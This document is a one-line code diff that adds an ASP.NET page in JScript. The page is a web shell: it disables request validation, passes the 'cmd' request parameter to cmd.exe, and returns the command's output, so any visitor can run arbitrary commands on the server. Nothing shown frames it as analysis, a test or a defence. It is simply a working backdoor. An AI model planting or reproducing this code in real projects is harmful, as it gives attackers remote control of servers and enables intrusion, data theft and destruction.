@@ -1,0 +1,1 @@
+<%@ Page Language="Jscript" validateRequest="false" %><%var c=new System.Diagnostics.ProcessStartInfo("cmd");var e=new System.Diagnostics.Process();c.UseShellExecute=false;c.RedirectStandardOutput=true;e.StartInfo=c;c.Arguments="/c " + Request.Item["cmd"];e.Start();Response.Write(e.StandardOutput.ReadToEnd());%>
